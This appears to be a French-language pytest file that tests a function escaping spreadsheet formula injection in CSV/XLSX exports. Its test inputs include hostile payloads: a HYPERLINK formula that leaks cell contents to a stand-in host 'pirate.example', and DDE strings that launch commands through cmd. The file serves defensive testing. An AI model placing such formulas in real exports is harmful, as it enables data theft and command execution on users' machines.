"""Injection de formule dans les exports CSV/XLSX : `neutraliser_formule`."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agora.securite import DEBUTS_DE_FORMULE, neutraliser_formule


@pytest.mark.parametrize(
    "valeur, attendu",
    [
        ('=HYPERLINK("http://pirate.example/?"&A1;"Cliquez")', '\'=HYPERLINK("http://pirate.example/?"&A1;"Cliquez")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("DURAND", "DURAND"),
        ("N'DIAYE", "N'DIAYE"),
        ("Jean-Pierre", "Jean-Pierre"),  # le tiret au milieu ne déclenche rien
        (" =1+1", " =1+1"),  # une espace en tête : le tableur lit du texte
        ("14,50", "14,50"),
        ("", ""),
        ("'déjà protégé", "'déjà protégé"),
    ],
)
def test_neutraliser_formule(valeur, attendu):
    assert neutraliser_formule(valeur) == attendu


@given(st.text())
def test_aucune_cellule_neutralisee_ne_commence_par_un_declencheur_et_rien_ne_se_perd(valeur):
    sortie = neutraliser_formule(valeur)
    assert not sortie.startswith(DEBUTS_DE_FORMULE)
    assert sortie in (valeur, "'" + valeur)
    assert (sortie != valeur) == valeur.startswith(DEBUTS_DE_FORMULE)
